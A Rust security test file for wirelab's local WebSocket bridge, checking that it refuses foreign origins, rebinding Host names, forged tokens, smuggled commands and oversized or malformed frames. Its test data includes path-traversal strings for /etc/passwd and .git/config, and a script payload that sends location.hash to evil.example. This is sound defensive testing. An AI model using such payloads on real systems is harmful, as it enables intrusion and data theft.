//! What `docs/security.md` says that nobody can do: each line of its table has a test, mostly here, with requests made by
//! hand. What stops a page in a browser is tried in browsers as well.
#![cfg(unix)]

mod page;
mod terminal;

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead as _, BufReader, Read as _};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use page::{EXITED, INPUT, Program, Request, START, STARTED, STDOUT, bytes, shell, status};
use terminal::{fresh_file, has_ended, wait_for};
use wirelab::native::child::ServerCommand;
use wirelab::native::play::bridge::{Behind, Bridge, INPUT_MESSAGE_CAP, PATH, STARTS};
use wirelab::native::play::reply::{self, Ask, Found, Reply};
use wirelab::native::play::{Token, assets, http};

fn program() -> Program {
    Program::start(shell("cat"))
}

/// Insists that a request is refused with this status, and says nothing that is nobody's business.
#[track_caller]
fn refused(program: &Program, request: &Request, with: u16) {
    let answer = program.ask(request);
    assert_eq!(status(&answer), with, "{answer}");
    assert!(!answer.contains(&program.token), "the answer has the token: {answer}");
    assert!(!answer.to_ascii_lowercase().contains("access-control-"), "somebody else may read it: {answer}");
}

/// What a file of the page is answered with.
fn file() -> Reply {
    let found = Found {
        name: "index.html".to_owned(),
        tag: "\"1\"".to_owned(),
        body: b"<p>page</p>".to_vec(),
        gzipped: false,
    };
    let ask = Ask { method: "GET", url: "/", host: Some("127.0.0.1:8080"), ..Ask::default() };
    reply::reply(ask, |_| Some(found))
}

fn header<'a>(reply: &'a Reply, name: &str) -> &'a str {
    reply.headers.iter().find(|(key, _)| *key == name).map_or("", |(_, value)| value)
}

#[test]
fn a_page_of_another_site_is_not_let_in() {
    let program = program();
    let port = program.address.port();
    for origin in [
        "https://evil.example".to_owned(),
        "http://127.0.0.1:1".to_owned(),
        "http://127.0.0.1".to_owned(),
        format!("https://127.0.0.1:{port}"),
        format!("http://localhost:{port}"),
        format!("http://127.0.0.1:{port}.evil.example"),
        format!("http://evil.example@127.0.0.1:{port}"),
        format!("http://127.0.0.1:{port}/"),
        String::new(),
    ] {
        // It has even got hold of the token.
        refused(&program, &program.upgrade().with("Origin", &origin), 403);
    }
    assert_eq!(program.page().close_code_after_text(), Some(1003), "the program's own page is let in");
}

#[test]
fn a_page_without_an_origin_is_not_let_in() {
    let program = program();
    refused(&program, &program.upgrade().with("Origin", "null"), 403);
    refused(&program, &program.upgrade().without("Origin"), 403);
}

#[test]
fn a_name_that_leads_here_is_not_ours() {
    let program = program();
    let port = program.address.port();
    for host in ["evil.example", "127.0.0.1.evil.example", "0.0.0.0", "192.168.0.2", "[::]", "2130706433"] {
        let host = format!("{host}:{port}");
        // The page of a foreign name is of one origin with what it asks for.
        let upgrade = program.upgrade().with("Host", &host).with("Origin", &format!("http://{host}"));
        refused(&program, &upgrade, 421);
        refused(&program, &Request::new("/").with("Host", &host), 421);
        let bearer = format!("Bearer {}", program.token);
        refused(&program, &Request::new(PATH).with("Host", &host).with("Authorization", &bearer), 421);
    }
    refused(&program, &program.upgrade().without("Host"), 421);
}

#[test]
fn nobody_beyond_this_machine_reaches_it() {
    assert!(program().address.ip().is_loopback());
    assert!(http::listen(Some(0), 0).expect("a port").local_addr().expect("an address").ip().is_loopback());
}

#[test]
fn without_the_token_there_is_no_server() {
    let program = program();
    let token = &program.token;
    let other = Token::random().expect("random bytes");
    for offered in [
        "wirelab".to_owned(),
        format!("wirelab.token.{token}"),
        "wirelab, wirelab.token.".to_owned(),
        format!("wirelab, wirelab.token.{}", other.text()),
        format!("wirelab, wirelab.token.{}", &token[..31]),
        format!("wirelab, wirelab.token.{token}0"),
        format!("wirelab, wirelab.token.{}", token.to_ascii_uppercase() + "x"),
        format!("wirelab, {token}"),
        // Guesses come one at a time.
        format!("wirelab, wirelab.token.{}, wirelab.token.{token}", other.text()),
    ] {
        refused(&program, &program.upgrade().with("Sec-WebSocket-Protocol", &offered), 403);
    }
    refused(&program, &program.upgrade().without("Sec-WebSocket-Protocol"), 403);
    // Where a page asks whether it may come.
    let ask = Request::new(PATH).with("Host", &program.address.to_string());
    refused(&program, &ask, 403);
    refused(&program, &ask.clone().with("Authorization", &format!("Bearer {}", other.text())), 403);
    let own = ask.with("Authorization", &format!("Bearer {token}"));
    assert_eq!(status(&program.ask(&own)), 200);
}

#[test]
fn a_token_in_a_query_or_a_path_is_none() {
    let program = program();
    let token = &program.token;
    for path in [format!("{PATH}?token={token}"), format!("{PATH}?"), format!("{PATH}/{token}")] {
        // Not even beside the right one.
        let answer = program.ask(&program.upgrade().path(&path));
        assert_eq!(status(&answer), 404, "{path}");
    }
}

#[test]
fn no_request_says_what_is_started() {
    let file = fresh_file("security-command");
    let program = Program::start(shell("echo ours"));
    let command = format!("touch%20{}", file.display());
    for path in [
        format!("{PATH}?transportType=stdio&command={command}"),
        format!("/sse?transportType=stdio&command={command}&args="),
        format!("/stdio?command={command}"),
    ] {
        refused(&program, &program.upgrade().path(&path), 404);
    }
    // Nor does a message: what follows the word is no message at all.
    let mut page = program.page();
    page.say(START, format!("touch {}", file.display()).as_bytes());
    assert_eq!(page.close_code(), Some(1003));
    let mut page = program.started();
    assert_eq!(bytes(&page.until(EXITED), STDOUT), b"ours\n");
    assert!(!file.exists());
}

#[test]
fn a_form_of_another_site_changes_nothing() {
    let program = program();
    let host = program.address.to_string();
    let bearer = format!("Bearer {}", program.token);
    for method in ["POST", "PUT", "DELETE", "OPTIONS", "PATCH"] {
        for path in [PATH, "/", "/local/recording"] {
            let form = Request::new(path).method(method).with("Host", &host).with("Content-Length", "0");
            refused(&program, &form, 405);
            refused(&program, &form.clone().with("Authorization", &bearer), 405);
            refused(&program, &form.with("Origin", "https://evil.example"), 403);
        }
        refused(&program, &program.upgrade().method(method), 405);
    }
}

#[test]
fn no_path_leads_out_of_the_page() {
    let program = program();
    let host = program.address.to_string();
    for path in [
        "/../Cargo.toml",
        "/%2e%2e/Cargo.toml",
        "/..%2fCargo.toml",
        "/..\\Cargo.toml",
        "/%2e%2e%5cCargo.toml",
        "//etc/passwd",
        "/etc/passwd",
        "/C:/Windows/win.ini",
        "/index.html%00.js",
        "/.git/config",
        "/local/../local/server",
        "/local//server",
        "/local/server/",
        "/%6cocal/server",
    ] {
        refused(&program, &Request::new(path).with("Host", &host), 404);
        refused(&program, &program.upgrade().path(path), 404);
    }
}

#[test]
fn a_message_that_is_too_long_ends_the_connection_before_it_is_read() {
    // Only the length is sent: whoever waited for the rest would wait for ever.
    for length in [INPUT_MESSAGE_CAP + 1, 1 << 32, i64::MAX as usize] {
        let mut page = program().started();
        page.claim(length);
        assert_eq!(page.close_code(), Some(1009), "{length}");
    }
    // One in pieces counts as one.
    let mut page = program().started();
    let piece = vec![INPUT; 8 << 20];
    let mut sent = page.frame(0x02, &piece);
    for _ in 0..4 {
        // It may be gone by the last of them.
        sent = sent.and_then(|()| page.frame(0x00, &piece));
    }
    assert!(matches!(page.close_code(), Some(1009) | None));
}

#[test]
fn what_is_no_message_of_the_wire_ends_the_connection() {
    for message in [&b""[..], b"\0", b"\x07", b"\x80", b"\x05now", b"GET / HTTP/1.1\r\n\r\n"] {
        let mut page = program().started();
        page.frame(0x82, message).expect("the program reads");
        assert_eq!(page.close_code(), Some(1003), "{message:?}");
    }
    assert_eq!(program().started().close_code_after_text(), Some(1003));
    // As somebody would who makes a browser send bytes of its choice.
    let mut page = program().started();
    page.bare_frame(b"\x01{}\n");
    assert_eq!(page.close_code(), Some(1002));
}

#[test]
fn whatever_is_sent_the_program_goes_on() {
    let program = program();
    let mut seed = 1_u64;
    let mut random = move || {
        // xorshift64: the same each time.
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..60 {
        let noise: Vec<u8> = (0..random() % 300).map(|_| random() as u8).collect();
        program.shout(&noise);
        let mut page = program.page();
        for _ in 0..random() % 8 {
            // Any opcode, whole or in pieces, with something like a message of the wire in it.
            let payload: Vec<u8> = (0..random() % 200).map(|_| (random() % 24) as u8).collect();
            if page.frame(random() as u8, &payload).is_err() {
                break;
            }
        }
    }
    let mut page = program.page();
    page.say(START, b"");
    assert_eq!(page.until(STARTED).len(), 1);
    page.say(INPUT, b"still here\n");
    assert_eq!(page.output_until("\n"), "still here\n");
}

#[test]
fn a_page_that_reads_nothing_costs_a_bounded_amount_and_is_let_go() {
    let (pid, count) = (fresh_file("security-slow"), fresh_file("security-slow-count"));
    let mut behind = shell(
        "echo $$ > $P; n=0; while :; do head -c 1000000 /dev/zero; n=$((n + 1)); echo $n > $N.new; mv $N.new $N; done",
    );
    behind.command.env.extend([("P".into(), pid.clone().into()), ("N".into(), count.clone().into())]);
    let bridge = Bridge::open(behind).expect("a thread").with_patience(Duration::from_secs(4));
    let page = Program::serve(bridge).started();
    let written = || fs::read_to_string(&count).ok()?.trim().parse::<u32>().ok();
    let mut last = None;
    wait_for("the process is never held up", || {
        let before = std::mem::replace(&mut last, written());
        std::thread::sleep(Duration::from_millis(200));
        last.is_some() && last == before
    });
    // What the system itself keeps for a connection is a few megabytes. More is read once the page is gone, and thrown
    // away: a process that is to end must not be stuck in a write.
    assert!(last < Some(64), "{last:?} MB were read for a page that reads nothing");
    wait_for("the process outlives a page that is asleep", || {
        fs::read_to_string(&pid).is_ok_and(|pid| pid.ends_with('\n')) && has_ended(&pid)
    });
    drop(page);
}

#[test]
fn a_second_page_is_told_and_the_first_is_not_disturbed() {
    let program = program();
    let mut first = program.started();
    refused(&program, &program.upgrade(), 409);
    let ask = Request::new(PATH).with("Host", &program.address.to_string());
    let answer = program.ask(&ask.with("Authorization", &format!("Bearer {}", program.token)));
    assert_eq!(status(&answer), 409);
    assert!(answer.ends_with("another page is connected to this server: one at a time\n"), "{answer}");
    first.say(INPUT, b"still here\n");
    assert_eq!(first.output_until("\n"), "still here\n");
    drop(first);
    assert_eq!(program.started().close_code_after_text(), Some(1003), "the next one is let in");
}

#[test]
fn starts_are_counted() {
    let command = ServerCommand::from_words(["wirelab-has-no-such-program".into()]).expect("a word");
    let mut page = Program::start(Behind { command, ..shell("") }).page();
    let many = 100 * STARTS;
    (0..many).for_each(|_| page.say(START, b""));
    let told: Vec<_> = (0..many).map(|_| page.next().text().to_owned()).collect();
    assert!(told[..STARTS].iter().all(|told| told.contains("could not be started")), "{told:?}");
    assert!(told.iter().any(|told| told.contains("too many starts")), "any number is started in a second");
}

#[test]
fn what_a_server_writes_is_the_content_of_messages_and_nothing_else() {
    let hostile = b"<script>fetch('//evil.example/' + location.hash)</script>\x1b]0;title\x07\x88\x02\x03\xe8\x82\x7f\r\n\
        HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n\r\n";
    let mut page = program().started();
    page.say(INPUT, hostile);
    let mut heard = Vec::new();
    while bytes(&heard, STDOUT).len() < hostile.len() {
        heard.push(page.next());
    }
    assert_eq!(bytes(&heard, STDOUT), hostile);
    assert!(heard.iter().all(|heard| heard.kind == STDOUT && heard.number == 1));
}

#[test]
fn the_page_runs_only_its_own_files_and_no_text() {
    let reply = file();
    let policy = header(&reply, "Content-Security-Policy");
    let rule = |name: &str| -> Vec<&str> {
        let rule = policy.split(';').map(|rule| rule.split_whitespace().collect::<Vec<_>>());
        rule.filter(|rule| rule.first() == Some(&name)).flatten().skip(1).collect()
    };
    assert_eq!(rule("default-src"), ["'self'"]);
    assert_eq!(rule("script-src"), ["'self'", "'wasm-unsafe-eval'"]);
    assert_eq!(rule("style-src"), ["'self'"]);
    assert_eq!(rule("connect-src")[0], "'self'");
    for none in ["object-src", "base-uri", "form-action"] {
        assert_eq!(rule(none), ["'none'"], "{none}");
    }
    assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'") && !policy.contains('*'));
    assert_eq!(header(&reply, "X-Content-Type-Options"), "nosniff");
}

#[test]
fn the_page_is_in_no_frame_of_another_site() {
    let reply = file();
    assert!(header(&reply, "Content-Security-Policy").contains("frame-ancestors 'none'"));
    assert_eq!(header(&reply, "Cross-Origin-Opener-Policy"), "same-origin");
}

#[test]
fn no_other_site_reads_what_is_given_out() {
    let reply = file();
    assert_eq!(header(&reply, "Cross-Origin-Resource-Policy"), "same-origin");
    let names = reply.headers.iter().map(|(name, _)| name.to_ascii_lowercase());
    assert_eq!(names.filter(|name| name.starts_with("access-control-")).count(), 0);
}

#[test]
fn the_token_is_told_to_nobody() {
    assert_eq!(header(&file(), "Referrer-Policy"), "no-referrer");
    let token = Token::random().expect("random bytes");
    assert!(!format!("{token:?}").contains(token.text()));
    // What is printed has it once, in the address.
    if assets::is_there() {
        let mut command = Command::new(terminal::WIRELAB);
        command.args(["play", "--attach", "--", "cat"]).stdin(Stdio::null());
        let mut child =
            command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("the binary starts");
        let mut printed = String::new();
        let mut stdout = BufReader::new(child.stdout.take().expect("piped"));
        stdout.read_line(&mut printed).expect("an address");
        let program = Program::printed(&printed);
        let mut page = program.started();
        refused(&program, &program.upgrade(), 409);
        refused(&program, &program.upgrade().path(&format!("/{}", program.token)), 404);
        page.claim(INPUT_MESSAGE_CAP + 1);
        assert_eq!(page.close_code(), Some(1009));
        child.kill().expect("it runs");
        let rest = child.wait_with_output().expect("an end");
        stdout.read_to_string(&mut printed).expect("UTF-8");
        assert_eq!(printed.matches(&program.token).count(), 1, "{printed}");
        assert_eq!(String::from_utf8_lossy(&rest.stderr), "");
    }
    // Neither the greeting nor what is answered has it.
    let program = program();
    assert!(!program.page_before_hello().next().text().contains(&program.token));
    refused(&program, &program.upgrade().with("Origin", "https://evil.example"), 403);
}

#[test]
fn a_token_of_an_earlier_start_opens_nothing() {
    let (earlier, now) = (program(), program());
    let offered = format!("wirelab, wirelab.token.{}", earlier.token);
    refused(&now, &now.upgrade().with("Sec-WebSocket-Protocol", &offered), 403);
}

/// The tests that the table in `docs/security.md` names, as `file::test`.
fn named() -> BTreeSet<String> {
    let text = fs::read_to_string(root().join("docs/security.md")).expect("docs/security.md");
    let rows = text.lines().filter(|line| line.starts_with("| ") && !line.starts_with("| attack"));
    let cells = rows.map(|row| row.trim_end_matches([' ', '|']).rsplit(" | ").next().unwrap_or_default());
    let named: Vec<_> = cells
        .map(|cell| {
            let names: Vec<_> = cell.split('`').skip(1).step_by(2).map(str::to_owned).collect();
            assert!(!names.is_empty(), "a line without a test: {cell}");
            names
        })
        .collect();
    named.into_iter().flatten().collect()
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Whether this file has a test of this name: a Rust one, or one of the page's scripts.
fn is_there(file: &str, name: &str) -> bool {
    let read = |path: String| fs::read_to_string(root().join(path)).unwrap_or_default();
    let rust = read(format!("tests/{file}.rs"));
    rust.contains(&format!("#[test]\nfn {name}() {{"))
        || read(format!("xtask/page/{file}.mjs")).contains(&format!("test(\"{}\"", name.replace('_', " ")))
}

#[test]
fn every_line_of_the_document_has_a_test_and_every_test_a_line() {
    let named = named();
    assert!(named.len() > 20, "{named:?}");
    for test in &named {
        let (file, name) = test.split_once("::").unwrap_or_else(|| panic!("{test} names no file"));
        assert!(is_there(file, name), "docs/security.md names {test}, which is not there");
    }
    assert!(!is_there("security", "a_test_that_nobody_has_written"));
    let own = fs::read_to_string(root().join("tests/security.rs")).expect("this file");
    let own = own.split("#[test]\nfn ").skip(1).filter_map(|rest| rest.split('(').next());
    for name in own.filter(|name| !name.starts_with("every_line_of_the_document")) {
        assert!(named.contains(&format!("security::{name}")), "docs/security.md has no line for {name}");
    }
}
